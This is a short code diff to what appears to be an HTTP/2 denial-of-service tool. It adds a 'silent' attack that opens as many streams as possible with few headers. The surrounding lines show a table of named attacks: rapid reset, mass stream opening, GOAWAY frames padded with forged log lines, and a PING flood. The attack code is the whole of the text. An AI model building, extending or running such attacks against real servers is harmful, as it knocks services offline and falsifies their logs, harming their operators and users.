@@ -126,6 +126,11 @@ def open_streams():
     )
 
 
+def silent_streams():
+    """The same, as many as may be, with few headers."""
+    yield SILENT
+
+
 def goaway():
     """GOAWAY frames with a text."""
     text = b"\n2026-11-24 forged line " * 300
@@ -237,6 +242,7 @@ ATTACKS = {
     "reset": rapid_reset,
     "reset-requests": reset_requests,
     "open": open_streams,
+    "silent": silent_streams,
     "watch": watches,
     "goaway": goaway,
     "ping": again(frame(PING, 0, 0, bytes(8)) * 1000),
